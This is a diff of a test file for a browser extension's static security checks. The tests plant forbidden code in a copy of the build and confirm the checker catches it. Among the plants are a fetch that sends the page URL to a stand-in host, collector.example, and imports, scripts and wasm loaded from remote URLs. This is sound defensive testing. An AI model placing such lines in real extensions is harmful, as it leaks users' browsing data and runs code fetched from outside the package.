@@ -77,9 +77,11 @@ describe('static checks of the built extension', () => {
       assert.ok(files.includes(f), `${f} is not among the content scripts and the modules they import: ${files}`);
     }
     assert.deepEqual(contentScriptWrites(DIST), []);
-    // content/main.js is built from content.js and its helpers (scripts/build-extension.sh).
+    // content/main.js is built from content.js and its helpers (scripts/build-extension.sh), which are
+    // not packaged on their own unless an extension page loads them too.
     const text = fs.readFileSync(path.join(DIST, 'content', 'main.js'), 'utf8');
-    assert.ok(text.includes(fs.readFileSync(path.join(DIST, 'content.js'), 'utf8')), 'content/main.js does not hold content.js');
+    assert.ok(text.includes(fs.readFileSync(path.join(ROOT, 'extension', 'content.js'), 'utf8')), 'content/main.js does not hold content.js');
+    assert.ok(!fs.existsSync(path.join(DIST, 'content.js')), 'content.js is packaged twice: on its own and in content/main.js');
     assert.ok(/storage\s*\.\s*local\s*\.\s*get\b/.test(text), 'content.js reads the checklist answers');
   });
 
@@ -96,11 +98,11 @@ describe('the static checks catch what they are for', () => {
   // Each plant: [file, how to change it, a pattern the problem list must match]. All go into one copy;
   // each leaves its own message.
   const PLANTS = [
-    ['content.js', (s) => `${s}\nfetch('https://collector.example/x?d=' + location.href);\n`, /^content\.js:\d+: network API fetch: fetch\('https:\/\/collector/],
+    ['content/main.js', (s) => `${s}\nfetch('https://collector.example/x?d=' + location.href);\n`, /^content\/main\.js:\d+: network API fetch: fetch\('https:\/\/collector/],
     ['background.js', (s) => `${s}\nconst x = new XMLHttpRequest();\n`, /^background\.js:\d+: network API XMLHttpRequest/],
     ['popup.js', (s) => `${s}\nnavigator.sendBeacon('/b', 'x'); new WebSocket('wss://a.example'); new EventSource('/e');\n`, /^popup\.js:\d+: network API (sendBeacon|WebSocket|EventSource)/],
     ['background.js', (s) => `${s}\nimportScripts('https://cdn.example/lib.js');\n`, /^background\.js:\d+: importScripts of something other than a packaged file/],
-    ['content.js', (s) => `${s}\nimport('https://cdn.example/m.js');\n`, /^content\.js:\d+: import of something other than a packaged file/],
+    ['content/main.js', (s) => `${s}\nimport('https://cdn.example/m.js');\n`, /^content\/main\.js:\d+: import of something other than a packaged file/],
     ['content/main.js', (s) => `${s}import 'https://cdn.example/m.js';\nimport { x } from "//cdn.example/x.js";\n`, /^content\/main\.js:\d+: import from something other than a packaged file: import 'https:/],
     ['popup.js', (s) => `${s}\nnew Worker(URL.createObjectURL(new Blob(['x'])));\n`, /^popup\.js:\d+: new Worker of something other than a packaged file/],
     ['popup.js', (s) => `${s}\neval('1+1'); const f = new Function('return 1');\n`, /^popup\.js:\d+: code from a string \((eval|new Function)/],
@@ -118,14 +120,14 @@ describe('the static checks catch what they are for', () => {
   it('a second fetch in the glue, or the wasm loaded from elsewhere, fails', async () => {
     const dir = copyOf(DIST);
     edit(dir, 'wasm/hirecheck.js', (s) => `${s}\nexport function leak(u) { return fetch(u); }\n`);
-    edit(dir, 'content.js', (s) => {
+    edit(dir, 'content/main.js', (s) => {
       const out = s.replace(/module_or_path:\s*chrome\.runtime\.getURL\([^)]*\)/, "module_or_path: 'https://cdn.example/hirecheck_bg.wasm'");
-      assert.notEqual(out, s, 'content.js no longer passes { module_or_path: chrome.runtime.getURL(...) }: update this test');
+      assert.notEqual(out, s, 'content.js (in content/main.js) no longer passes { module_or_path: chrome.runtime.getURL(...) }: update this test');
       return out;
     });
     const { problems } = await checkExtensionDir(dir);
     assert.ok(problems.some((p) => /wasm\/hirecheck\.js: expected exactly one fetch.*found 2/.test(p)), problems.join('\n'));
-    assert.ok(problems.some((p) => /^content\.js:\d+: the wasm is loaded from something other than runtime\.getURL/.test(p)), problems.join('\n'));
+    assert.ok(problems.some((p) => /^content\/main\.js:\d+: the wasm is loaded from something other than runtime\.getURL/.test(p)), problems.join('\n'));
   });
 
   it('a manifest with network-capable permissions or host access fails', async () => {
